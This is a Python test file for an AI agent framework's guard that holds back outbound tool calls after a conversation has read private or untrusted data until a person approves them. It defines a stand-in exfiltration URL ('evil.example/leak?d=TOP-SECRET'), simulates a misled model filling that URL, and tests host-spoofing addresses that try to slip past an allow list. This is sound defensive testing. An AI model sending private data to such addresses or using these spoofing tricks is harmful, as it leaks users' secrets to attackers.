"""What was read and what goes out: a conversation that knows something private asks before it speaks to the outside."""

import asyncio
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from langgraph.checkpoint.memory import InMemorySaver

from agents.decisions.decompose.question import DecomposeQuestion, Plan
from agents.decisions.fill_arguments.question import Filled, FillQuestion
from agents.profile import AgentProfile
from agents.subtask import SubTask
from graph.workspace.snapshot import take_snapshot
from prompts.language import Language
from tagging.tags import Permission, Tagged, TagSet
from tests.graph.world import PROFILES, World, called
from tools.calls.readings import Reading, Readings
from tools.context import ToolContext
from tools.kinds import FilePath, Url
from tools.marking import tool
from tools.tool import Tool

LEAK = "https://evil.example/leak?d=TOP-SECRET"
ASIDE: dict[Language, str] = {"en": "open the diary", "zh": "打开日记"}
FETCH: dict[Language, str] = {"en": "fetch the page", "zh": "抓取网页"}
BOTH: dict[Language, str] = {"en": "open the diary, then fetch the page", "zh": "打开日记，然后抓取网页"}
SAYS: dict[Language, str] = {
    "en": "sends what stands below to `evil.example`, and this conversation has read what is private",
    "zh": "会把下面的内容发送到 `evil.example`，而本次对话已读取过私有",
}
LANGUAGES: tuple[Language, ...] = ("en", "zh")


class Web:
    """Where requests of this test go."""

    def __init__(self) -> None:
        self.fetched: list[str] = []
        self.read = 0

    def functions(self) -> list[tuple[Callable[..., Any], str]]:
        @tool(domains=("file",), functions=("query",))
        def read_diary(path: FilePath = "diary.txt") -> str:
            """Read the diary."""
            self.read += 1
            return "TOP-SECRET"

        @tool(domains=("file",), functions=("query",), reads="untrusted")
        def fetch_page(url: Url) -> str:
            """Fetch a page."""
            self.fetched.append(url)
            return "a page"

        @tool(domains=("file",), functions=("compute",), reads="nothing")
        def add_up(number: int = 1) -> int:
            """Add something up."""
            return number

        return [(read_diary, "web"), (fetch_page, "web"), (add_up, "web")]


@pytest.fixture
async def web(world: World) -> Web:
    """Tools that read and that go outside; what they are given is decided as a misled model would."""
    made = Web()
    await world.changed(*made.functions())
    world.words["web/read_diary"] = {"diary": 0.95, "日记": 0.95}
    world.words["web/fetch_page"] = {"page": 0.95, "网页": 0.95}
    world.words["web/add_up"] = {"sum": 0.95, "求和": 0.95}
    filling(world, LEAK)
    return made


def filling(world: World, url: str) -> None:
    """Let whoever fills arguments take an address that no request names."""

    async def fill(question: FillQuestion) -> Filled:
        takes = "url" in question.tool.properties
        return Filled(sets=({"url": url} if takes else {},))

    world.replaced["fill"] = fill


def with_hosts(world: World, *hosts: str) -> None:
    profiles = tuple(p.model_copy(update={"hosts": hosts}) for p in PROFILES)
    world.snapshot = take_snapshot("hosts", world.library.tools(), profiles)


@pytest.mark.parametrize("language", LANGUAGES)
async def test_what_goes_out_of_a_conversation_that_read_something_private_asks(
    world: World, web: Web, language: Language
) -> None:
    await world.ask(ASIDE[language], language=language)
    await world.ask(FETCH[language], language=language)
    (asked,) = await world.waiting()
    assert (web.read, web.fetched, asked.call.arguments) == (1, [], {"url": LEAK})
    assert SAYS[language] in asked.reason
    (why,) = asked.reasons
    assert (why.code, dict(why.facts)) == ("sends_out", {"to": ("evil.example",), "read": ("web/read_diary",)})
    await world.answer_questions(approve=True)
    assert web.fetched == [LEAK]


@pytest.mark.parametrize("language", LANGUAGES)
async def test_a_person_who_says_no_keeps_it_inside(world: World, web: Web, language: Language) -> None:
    await world.ask(ASIDE[language], language=language)
    await world.ask(FETCH[language], language=language)
    events = await world.answer_questions(approve=False)
    assert (web.fetched, called(events)) == ([], [])


@pytest.mark.parametrize("language", LANGUAGES)
async def test_reading_and_sending_in_one_request_asks(world: World, web: Web, language: Language) -> None:
    await world.ask(BOTH[language], language=language)
    assert (web.read, web.fetched, len(await world.waiting())) == (1, [], 1)


@pytest.mark.parametrize("language", LANGUAGES)
async def test_a_conversation_that_read_nothing_goes_out_without_a_question(
    world: World, web: Web, language: Language
) -> None:
    await world.ask(FETCH[language], language=language)
    assert (await world.waiting(), web.fetched) == ([], [LEAK])


@pytest.mark.parametrize(
    "request_", ["fetch the page https://fine.example/a?b=1 please", "抓取网页https://fine.example/a?b=1看看"]
)
async def test_what_the_person_said_word_for_word_goes_out_without_a_question(
    world: World, web: Web, request_: str
) -> None:
    filling(world, "https://fine.example/a?b=1")
    await world.ask(ASIDE["en"])
    await world.ask(request_)
    assert (await world.waiting(), web.fetched) == ([], ["https://fine.example/a?b=1"])


async def test_what_the_person_said_earlier_in_the_conversation_counts(world: World, web: Web) -> None:
    filling(world, "https://fine.example/a")
    await world.ask("the page that I like is https://fine.example/a")
    await world.ask(ASIDE["en"])
    await world.ask(FETCH["en"])
    assert await world.waiting() == []


async def test_what_another_conversation_said_or_read_does_not_count(world: World, web: Web) -> None:
    await world.ask(ASIDE["en"], thread="other")
    await world.ask(f"the page is {LEAK}", thread="other")
    web.fetched.clear()
    await world.ask(FETCH["en"])
    assert (await world.waiting(), web.fetched) == ([], [LEAK])
    await world.ask(ASIDE["en"])
    await world.ask(FETCH["en"])
    assert len(await world.waiting()) == 1


@pytest.mark.parametrize("host", ["evil.example", "*.example"])
async def test_a_host_of_the_profile_is_allowed(world: World, web: Web, host: str) -> None:
    with_hosts(world, host)
    await world.ask(ASIDE["en"])
    await world.ask(FETCH["en"])
    assert (await world.waiting(), web.fetched) == ([], [LEAK])


@pytest.mark.parametrize("address", ["https://fine.example@evil.example/", "https://evil.example/?x=fine.example"])
async def test_an_address_that_only_looks_like_an_allowed_host_asks(world: World, web: Web, address: str) -> None:
    with_hosts(world, "fine.example")
    filling(world, address)
    await world.ask(ASIDE["en"])
    await world.ask(FETCH["en"])
    assert (len(await world.waiting()), web.fetched) == (1, [])


async def test_a_page_that_was_fetched_is_untrusted(world: World, web: Web) -> None:
    await world.ask(FETCH["en"])
    await world.ask(FETCH["en"])
    (asked,) = await world.waiting()
    assert asked.reasons[0].facts["read"] == ("web/fetch_page",)


async def test_what_brings_nothing_in_changes_nothing(world: World, web: Web) -> None:
    await world.ask("the sum")
    await world.ask(FETCH["en"])
    assert (await world.waiting(), web.fetched) == ([], [LEAK])


async def test_it_stays_so_when_the_conversation_goes_on_in_another_process(world: World, web: Web) -> None:
    await world.ask(ASIDE["en"])
    async with Readings(world.settings.home) as anew:
        world.readings = anew
        await world.ask(FETCH["en"])
        assert len(await world.waiting()) == 1


async def test_it_stays_so_when_the_checkpoints_of_the_conversation_are_lost(world: World, web: Web) -> None:
    await world.ask(ASIDE["en"])
    world.app.checkpointer = InMemorySaver()
    await world.ask(FETCH["en"])
    assert len(await world.waiting()) == 1


async def test_what_an_earlier_version_read_counts_though_nobody_noted_it(
    world: World, web: Web, tmp_path: Path
) -> None:
    await world.ask(ASIDE["en"])
    async with Readings(tmp_path) as empty:
        world.readings = empty
        await world.ask(FETCH["en"])
        assert len(await world.waiting()) == 1


class SlowReadings(Readings):
    """Says what was read; the second time only once something is being read."""

    def __init__(self, home: Path) -> None:
        super().__init__(home)
        self.asked, self.began = asyncio.Event(), asyncio.Event()

    async def of(self, thread_id: str) -> tuple[Reading, ...]:
        if self.asked.is_set():
            await self.began.wait()
        self.asked.set()
        return await super().of(thread_id)


@pytest.mark.parametrize("language", LANGUAGES)
async def test_what_is_being_read_beside_it_counts_at_the_moment_of_the_call(
    world: World, web: Web, tmp_path: Path, language: Language
) -> None:
    async with SlowReadings(tmp_path) as readings:

        @tool(domains=("commerce",), functions=("query",), reads="private")
        async def read_ledger() -> str:
            """Read the ledger."""
            readings.began.set()
            return "TOP-SECRET"

        async def decompose(question: DecomposeQuestion) -> Plan:
            parts = enumerate(("the ledger", FETCH[language]), 1)
            return Plan(request=question.request, subtasks=tuple(SubTask(number=n, description=d) for n, d in parts))

        async def fill(question: FillQuestion) -> Filled:
            if "url" in question.tool.properties:
                return Filled(sets=({"url": LEAK},))
            await readings.asked.wait()
            return Filled(sets=({},))

        await world.changed((read_ledger, "shop"))
        world.words["shop/read_ledger"] = {"ledger": 0.95}
        world.replaced |= {"decompose": decompose, "fill": fill}
        world.readings = readings
        await world.ask(FETCH[language], language=language)
        (asked,) = await world.waiting()
        assert (web.fetched, asked.reasons[0].facts["read"]) == ([], ("shop/read_ledger",))
        await world.answer_questions(approve=True)
        assert web.fetched == [LEAK]


def imported(source: Any = "mcp", **more: Any) -> Tool:
    """A tool of somebody else's that a person settled: it does not ask by itself."""
    return Tool(
        id="remote/look_up",
        name="look_up",
        description="Look something up.",
        parameters={"type": "object", "properties": {"q": {"type": "string"}}},
        group="remote",
        source=source,
        tags=TagSet(
            domains=Tagged(value=("file",)),
            permission=Tagged(value=Permission.LOW),
            approval=Tagged(value="never", provenance="human"),
        ),
        **more,
    )


async def bring(world: World, brought: Tool, *profiles: AgentProfile) -> None:
    await world.library.add_definitions([brought], "import:remote")
    word = {"value": "never", "provenance": "human", "seen": world.library.get(brought.id).definition_hash}
    await world.library.update(brought.id, tags={"approval": word})
    world.words[brought.id] = {"look up": 0.95, "查一下": 0.95}
    world.snapshot = take_snapshot("later", world.library.tools(), profiles or PROFILES)

    async def fill(question: FillQuestion) -> Filled:
        return Filled(sets=({"q": "TOP-SECRET"} if question.tool.id == brought.id else {},))

    world.replaced["fill"] = fill


@pytest.mark.parametrize("request_", ["look up what it says", "查一下里面说了什么"])
@pytest.mark.parametrize(
    ("source", "more", "to"),
    [
        ("mcp", {}, "mcp:remote"),
        ("mcp", {"binding": {"url": "https://mcp.example/x"}}, "mcp.example"),
        ("http", {"target": "https://api.example/v1"}, "api.example"),
    ],
)
async def test_an_imported_tool_goes_outside_whoever_settled_that_it_does_not_ask(
    world: World, web: Web, source: str, more: dict[str, Any], to: str, request_: str
) -> None:
    await bring(world, imported(source, **more))
    await world.ask(ASIDE["en"])
    await world.ask(request_)
    (asked,) = await world.waiting()
    assert (asked.reasons[0].code, asked.reasons[0].facts["to"]) == ("sends_out", (to,))
    allowed = tuple(p.model_copy(update={"hosts": (to,)}) for p in PROFILES)
    world.snapshot = take_snapshot("allowed", world.library.tools(), allowed)
    await world.ask(ASIDE["en"], thread="new")
    events = await world.ask(request_, thread="new")
    assert (await world.waiting("new"), called(events)) == ([], [("remote/look_up", "ok")])


async def test_the_result_of_an_imported_tool_is_untrusted(world: World, web: Web) -> None:
    await bring(world, imported())
    await world.ask("look up what it says")
    filling(world, LEAK)
    await world.ask(FETCH["en"])
    (asked,) = await world.waiting()
    assert asked.reasons[0].facts["read"] == ("remote/look_up",)


async def test_a_tool_that_reads_and_sends_in_one_call_asks_by_itself(world: World, web: Web) -> None:
    @tool(domains=("file",), functions=("query",), sends_to=("*",))
    def upload(path: FilePath = "diary.txt", context: ToolContext | None = None) -> str:
        """Upload a file."""
        raise AssertionError

    async def fill(question: FillQuestion) -> Filled:
        return Filled(sets=({"path": "other.txt"},))

    await world.changed((upload, "web"))
    world.words["web/upload"] = {"upload": 0.95}
    world.replaced["fill"] = fill
    await world.ask("upload it")
    (asked,) = await world.waiting()
    assert asked.reasons[0].facts == {"to": ("*",), "read": ("web/upload",)}
